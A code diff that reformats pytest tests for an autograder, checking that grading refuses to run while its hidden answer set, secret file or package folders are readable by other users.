+            )
         said = str(raised.value)
-        assert "\n" not in said and str(stray) in said and "inside the kit's folder" in said and "move" in said
+        assert (
+            "\n" not in said and str(stray) in said and "inside the kit's folder" in said and "move" in said
+        )
         assert not (tmp_path / "out").exists()
     finally:
         shutil.rmtree(stray, ignore_errors=True)
-    records = grade_folder(tmp_path / "subs", load_rubric(task="date-translation"), tmp_path / "hidden",
-                           tmp_path / "out", progress=False)   # moved out, the same batch grades
+    records = grade_folder(
+        tmp_path / "subs",
+        load_rubric(task="date-translation"),
+        tmp_path / "hidden",
+        tmp_path / "out",
+        progress=False,
+    )  # moved out, the same batch grades
     assert [r["status"] for r in records] == ["malformed"]
 
 
@@ -638,12 +761,12 @@ def test_user_isolation_refuses_to_start_while_the_hidden_set_is_readable(monkey
     import autograder.batch
     from labs.common.errors import InputError
 
-    tmp_path = Path(tempfile.mkdtemp())          # pytest's own folders are private: this one is open to all
+    tmp_path = Path(tempfile.mkdtemp())  # pytest's own folders are private: this one is open to all
     tmp_path.chmod(0o755)
     (tmp_path / "secret.txt").write_text(SECRET)
     (tmp_path / "secret.txt").chmod(0o600)
     make_hidden_set("date-translation", tmp_path / "secret.txt", tmp_path / "hidden", n=20)
-    assert oct(os.stat(tmp_path / "hidden").st_mode & 0o777) == "0o700"          # private as written
+    assert oct(os.stat(tmp_path / "hidden").st_mode & 0o777) == "0o700"  # private as written
     (tmp_path / "hidden").chmod(0o755)
     (tmp_path / "hidden" / "targets.csv").chmod(0o644)
     (tmp_path / "subs").mkdir()
@@ -651,25 +774,45 @@ def test_user_isolation_refuses_to_start_while_the_hidden_set_is_readable(monkey
     monkeypatch.setattr(autograder.batch, "resolve_isolation", lambda requested: "user")
     try:
         with pytest.raises(InputError, match="could read .*hidden"):
-            grade_folder(tmp_path / "subs", load_rubric(task="date-translation"), tmp_path / "hidden",
-                         tmp_path / "out", progress=False)
-        (tmp_path / "hidden").chmod(0o711)              # others cannot list it, but can open what they can name
+            grade_folder(
+                tmp_path / "subs",
+                load_rubric(task="date-translation"),
+                tmp_path / "hidden",
+                tmp_path / "out",
+                progress=False,
+            )
+        (tmp_path / "hidden").chmod(0o711)  # others cannot list it, but can open what they can name
         with pytest.raises(InputError, match="could read .*hidden"):
-            grade_folder(tmp_path / "subs", load_rubric(task="date-translation"), tmp_path / "hidden",
-                         tmp_path / "out", progress=False)
+            grade_folder(
+                tmp_path / "subs",
+                load_rubric(task="date-translation"),
+                tmp_path / "hidden",
+                tmp_path / "out",
+                progress=False,
+            )
         (tmp_path / "hidden" / "targets.csv").chmod(0o600)
         (tmp_path / "subs").chmod(0o700)
-        (tmp_path / "secret.txt").chmod(0o644)       # where the README keeps it, beside the hidden set
+        (tmp_path / "secret.txt").chmod(0o644)  # where the README keeps it, beside the hidden set
         with pytest.raises(InputError, match="could read .*secret.txt"):
-            grade_folder(tmp_path / "subs", load_rubric(task="date-translation"), tmp_path / "hidden",
-                         tmp_path / "out", progress=False)
+            grade_folder(
+                tmp_path / "subs",
+                load_rubric(task="date-translation"),
+                tmp_path / "hidden",
+                tmp_path / "out",
+                progress=False,
+            )
         (tmp_path / "secret.txt").chmod(0o600)
         romanizer = tmp_path / "pythainlp"
         romanizer.mkdir(mode=0o755)
         (romanizer / "__init__.py").write_text("")
         monkeypatch.setattr(autograder.batch, "package_folders", lambda: [romanizer])
         with pytest.raises(InputError, match="could read .*pythainlp"):
-            grade_folder(tmp_path / "subs", load_rubric(task="date-translation"), tmp_path / "hidden",
-                         tmp_path / "out", progress=False)
+            grade_folder(
+                tmp_path / "subs",
+                load_rubric(task="date-translation"),
+                tmp_path / "hidden",
+                tmp_path / "out",
+                progress=False,
+            )
     finally:
         subprocess.run(["rm", "-rf", str(tmp_path)], check=False)
